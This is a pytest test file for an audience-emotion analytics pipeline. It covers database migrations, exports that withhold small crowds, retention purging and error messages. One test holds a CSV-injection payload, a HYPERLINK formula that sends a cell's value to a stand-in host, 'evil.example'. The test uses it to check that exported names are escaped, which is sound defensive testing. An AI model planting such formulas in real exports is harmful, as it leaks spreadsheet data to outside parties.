"""Store operations and exports on the real analysed database."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pandas as pd
import pytest

from pipeline.emotion import LABELS
from pipeline.store.database import connect
from pipeline.store.retention import purge_older_than
from tests.cli import run_cli
from tests.human_csv import read_export_csv


def _cli(*args: str, min_crowd: int = 3) -> subprocess.CompletedProcess[str]:
    """The CLI with EMOTION_MIN_CROWD lowered to the fixture's crowd (3 people at most)."""
    return run_cli(*args, env={"EMOTION_MIN_CROWD": str(min_crowd)})


MIGRATIONS_DIR = Path(__file__).resolve().parents[1] / "pipeline" / "store" / "migrations"


def test_migrations_are_recorded_once(tmp_path: Path) -> None:
    db = tmp_path / "m.duckdb"
    for _ in range(2):
        with connect(db) as con:
            names = con.execute("SELECT name FROM schema_migrations ORDER BY number").fetchall()
    shipped = sorted(p.name for p in MIGRATIONS_DIR.glob("*.sql"))
    assert [n for (n,) in names] == shipped
    assert len(shipped) >= 3


def test_emotion_api_json_export(analysed_db, tmp_path: Path) -> None:
    out = tmp_path / "ad.json"
    done = _cli(
        "export",
        "--campaign",
        "Spring launch",
        "--stimulus",
        "Spring ad",
        "--format",
        "json",
        "--out",
        str(out),
        "--db",
        str(analysed_db),
        min_crowd=2,
    )
    assert done.returncode == 0, done.stderr
    payload = json.loads(out.read_text())
    assert payload["minCrowd"] == 2
    assert payload["timescale"] == 1000 and payload["labels"] == list(LABELS)
    fragment = payload["fragments"][0]
    assert fragment["interval"] == 1000 and fragment["duration"] == 12000
    assert len(fragment["events"]) == 12
    for event in fragment["events"]:
        if event:
            dist = event[0]["windowFaceDistribution"]
            assert abs(sum(dist.values()) - 1.0) < 1e-3
            assert set(event[0]["windowMeanScores"]) == set(LABELS)


def test_csv_and_parquet_apply_the_minimum_crowd(analysed_db, tmp_path: Path) -> None:
    """People, not faces: the ad shows 3 people (15 faces a second). At the configured crowd
    of 3 its buckets are shown; raised to 4 they are withheld though each holds 15 faces."""
    for fmt in ("csv", "parquet"):
        tables = {}
        for crowd in (None, 4):
            out = tmp_path / f"all{crowd}.{fmt}"
            raise_to = ["--min-crowd", str(crowd)] if crowd else []
            done = _cli(
                "export",
                "--campaign",
                "Spring launch",
                "--format",
                fmt,
                "--out",
                str(out),
                "--db",
                str(analysed_db),
                *raise_to,
            )
            assert done.returncode == 0, done.stderr
            tables[crowd] = read_export_csv(out) if fmt == "csv" else pd.read_parquet(out)
        table = tables[None]
        assert (table["min_crowd"] == 3).all()
        assert set(table["stimulus"]) == {"Spring ad", "Window display"}
        ad = table[table["stimulus"] == "Spring ad"].set_index("bucket_offset_s")
        assert not ad.loc[0.0, "suppressed"] and ad.loc[0.0, "people"] == 3
        assert ad.loc[0.0, "faces"] >= 10 and not pd.isna(ad.loc[0.0, "valence"])
        assert table[table["people"] < 3]["suppressed"].all()
        raised = tables[4]
        assert (raised["min_crowd"] == 4).all()
        small = raised[raised["people"] < 4]
        assert len(small) and small["suppressed"].all() and small["valence"].isna().all()
        ad = raised[raised["stimulus"] == "Spring ad"]
        assert ad["suppressed"].all() and (ad["faces"] >= 10).any()


def test_display_series_by_clock_hour(analysed_db) -> None:
    from pipeline.audience import read
    from pipeline.store import catalog

    with connect(analysed_db, read_only=True) as con:
        campaign = catalog.get_campaign(con, "Spring launch")
        display = catalog.get_stimulus(con, campaign, "Window display")
        series = read.series(con, display.stimulus_id, 3600.0, True, min_crowd=1)
        heat = read.hour_weekday(con, display.stimulus_id, 1)
    # 12 snapshots every 20 min from 09:00: hours 9, 10, 11, 12.
    assert [ts.hour for ts in pd.to_datetime(series["bucket_ts"])] == [9, 10, 11, 12]
    assert set(heat["hour"]) == {9, 10, 11, 12} and set(heat["weekday"]) == {6}


def test_purge_removes_old_jobs_only(writable_db) -> None:
    with connect(writable_db) as con:
        con.execute(
            "UPDATE ingest_jobs SET created_at = current_timestamp - INTERVAL 400 DAY "
            "WHERE input_name = 'spring_ad.mp4'"
        )
        removed = purge_older_than(con, 365)
        left = con.execute(
            "SELECT count(*) FROM face_observations o JOIN stimuli s "
            "USING (stimulus_id) WHERE s.name = 'Spring ad'"
        ).fetchone()[0]
        kept = con.execute("SELECT count(*) FROM face_observations").fetchone()[0]
    assert removed["jobs"] == 1 and removed["face_observations"] > 0
    assert left == 0 and kept > 0


def test_query_failures_become_store_errors(tmp_path: Path) -> None:
    from pipeline.errors import StoreError

    with pytest.raises(StoreError) as failed, connect(tmp_path / "e.duckdb") as con:
        con.execute("SELECT no_such_column FROM campaigns")
    assert failed.value.title == "Database query failed"
    assert "no_such_column" in failed.value.message


def _export_csv(db: Path, out: Path) -> subprocess.CompletedProcess[str]:
    return _cli(
        "export",
        "--campaign",
        "Spring launch",
        "--format",
        "csv",
        "--out",
        str(out),
        "--db",
        str(db),
    )


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_name_that_looks_like_a_formula_stays_text_in_the_csv(
    writable_db: Path, tmp_path: Path
) -> None:
    """A spreadsheet runs a cell that starts with "=" (CSV injection): the exported name is
    written as text (a leading apostrophe); numbers, negative ones too, stay numbers."""
    renamed = _cli(
        "stimuli", "rename", "Spring launch", "Spring ad", FORMULA, "--db", str(writable_db)
    )
    assert renamed.returncode == 0, renamed.stderr
    out = tmp_path / "all.csv"
    done = _export_csv(writable_db, out)
    assert done.returncode == 0, done.stderr
    text = out.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in text
    cells = [cell for line in text.splitlines() for cell in line.split(",")]
    assert not any(cell.lstrip('"').startswith("=") for cell in cells)
    table = pd.read_csv(out, encoding="utf-8-sig")
    numeric = table.select_dtypes("number")
    assert len(numeric.columns) >= 5 and (numeric < 0).any().any()  # negative values stay numbers


def test_export_out_that_cannot_be_written_is_one_line(analysed_db: Path, tmp_path: Path) -> None:
    before = analysed_db.read_bytes()
    for out, title in (
        (tmp_path, "Export not written"),
        (analysed_db, "Export would overwrite the database"),
    ):
        done = _export_csv(analysed_db, out)
        assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
        assert done.stderr.strip().splitlines()[-1].startswith(f"error: {title}:"), done.stderr
    assert analysed_db.read_bytes() == before
    assert not list(tmp_path.glob("*.partial"))
